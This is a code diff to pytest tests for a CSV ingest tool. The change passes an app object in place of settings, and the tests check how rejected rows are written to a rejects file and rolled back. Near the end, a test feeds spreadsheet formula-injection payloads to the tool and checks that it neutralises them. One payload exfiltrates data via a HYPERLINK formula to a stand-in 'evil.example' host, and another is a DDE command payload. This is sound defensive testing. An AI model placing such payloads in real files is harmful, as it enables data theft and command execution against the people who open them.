@@ -15,6 +15,7 @@ import pytest
 from sqlalchemy import func, select
 from sqlalchemy.orm import Session
 
+from retentio.app import App
 from retentio.config import Settings
 from retentio.errors import UserError
 from retentio.ingest import IngestOptions, StrictRejected, ingest_file
@@ -93,7 +94,7 @@ def test_odd_rejects_path_fails_in_one_line_before_loading(
 
 
 def test_rejects_file_that_cannot_be_written_rolls_the_load_back(
-    settings: Settings, orders_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    app: App, settings: Settings, orders_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A full disk while writing the rejects: nothing loaded, a one-line error, no file left."""
 
@@ -103,18 +104,18 @@ def test_rejects_file_that_cannot_be_written_rolls_the_load_back(
     monkeypatch.setattr(ingest_service.os, "fsync", full_disk)
     target = tmp_path / "rejects.csv"
     with pytest.raises(UserError, match="No space left"):
-        ingest_file(settings, "orders", orders_file, rejects_path=target)
+        ingest_file(app, "orders", orders_file, rejects_path=target)
     assert order_count(settings) == 0
     assert not target.exists()
     assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
     monkeypatch.undo()
-    summary = ingest_file(settings, "orders", orders_file, rejects_path=target)
+    summary = ingest_file(app, "orders", orders_file, rejects_path=target)
     assert (summary.loaded, summary.rejected, summary.rejects_file) == (2, 1, str(target))
     assert order_count(settings) == 2
 
 
 def test_a_failed_commit_leaves_no_rejects_file(
-    settings: Settings, orders_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    app: App, settings: Settings, orders_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """The rejects file is named just before the commit; if the transaction fails it goes again."""
     original = ingest_service.bump_data_version
@@ -126,17 +127,17 @@ def test_a_failed_commit_leaves_no_rejects_file(
     monkeypatch.setattr(ingest_service, "bump_data_version", failing_bump)
     target = tmp_path / "rejects.csv"
     with pytest.raises(RuntimeError):
-        ingest_file(settings, "orders", orders_file, rejects_path=target)
+        ingest_file(app, "orders", orders_file, rejects_path=target)
     monkeypatch.undo()
     assert order_count(settings) == 0
     assert not target.exists()
 
 
 def test_rejects_are_written_before_the_commit_and_recorded(
-    settings: Settings, orders_file: Path, tmp_path: Path
+    app: App, settings: Settings, orders_file: Path, tmp_path: Path
 ) -> None:
     target = tmp_path / "rejects.csv"
-    summary = ingest_file(settings, "orders", orders_file, rejects_path=target)
+    summary = ingest_file(app, "orders", orders_file, rejects_path=target)
     assert summary.rejects_file == str(target)
     rows = list(csv.reader(target.open(encoding="utf-8-sig")))
     assert rows[1][:3] == ["3", "total", "total is not a number"]
@@ -144,17 +145,17 @@ def test_rejects_are_written_before_the_commit_and_recorded(
         assert session.scalar(select(IngestRun.rejects_file)) == str(target)
     # Loading again with the same --rejects refuses before touching anything.
     with pytest.raises(UserError, match="exists already"):
-        ingest_file(settings, "orders", orders_file, rejects_path=target)
+        ingest_file(app, "orders", orders_file, rejects_path=target)
 
 
 def test_default_rejects_names_are_unique(
-    settings: Settings, orders_file: Path, monkeypatch: pytest.MonkeyPatch
+    app: App, settings: Settings, orders_file: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Two ingests in the same instant (same timestamp) never share or replace a rejects file."""
     fixed = settings.rejects_dir / "orders-20240101T000000000000Z.csv"
     monkeypatch.setattr(ingest_service, "_rejects_path", lambda settings, table: fixed)
-    first = ingest_file(settings, "orders", orders_file)
-    second = ingest_file(settings, "orders", orders_file)
+    first = ingest_file(app, "orders", orders_file)
+    second = ingest_file(app, "orders", orders_file)
     assert first.rejects_file == str(fixed)
     assert second.rejects_file is not None and second.rejects_file != first.rejects_file
     assert Path(second.rejects_file).is_file() and fixed.is_file()
@@ -165,11 +166,11 @@ def test_default_rejects_names_are_unique(
 
 
 def test_strict_writes_its_rejects_and_loads_nothing(
-    settings: Settings, orders_file: Path, tmp_path: Path
+    app: App, settings: Settings, orders_file: Path, tmp_path: Path
 ) -> None:
     target = tmp_path / "strict.csv"
     with pytest.raises(StrictRejected):
-        ingest_file(settings, "orders", orders_file, IngestOptions(strict=True), rejects_path=target)
+        ingest_file(app, "orders", orders_file, IngestOptions(strict=True), rejects_path=target)
     assert target.is_file()
     assert order_count(settings) == 0
 
@@ -177,14 +178,14 @@ def test_strict_writes_its_rejects_and_loads_nothing(
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
 
 
-def test_rejects_file_neutralises_formulas(settings: Settings, tmp_path: Path) -> None:
+def test_rejects_file_neutralises_formulas(app: App, settings: Settings, tmp_path: Path) -> None:
     path = tmp_path / "customers.csv"
     lines = ["customer_id,first_name,birthday"]
     lines += [f'c{i},"{name.replace(chr(34), chr(34) * 2)}",not-a-date' for i, name in enumerate(HOSTILE)]
     lines.append('c9,"\tTab",also-bad')
     path.write_text("\n".join(lines) + "\n", encoding="utf-8")
     target = tmp_path / "rejects.csv"
-    summary = ingest_file(settings, "customers", path, rejects_path=target)
+    summary = ingest_file(app, "customers", path, rejects_path=target)
     assert summary.rejected == len(HOSTILE) + 1
     rows = list(csv.DictReader(target.open(encoding="utf-8-sig", newline="")))
     assert [r["first_name"] for r in rows[: len(HOSTILE)]] == ["'" + name for name in HOSTILE]
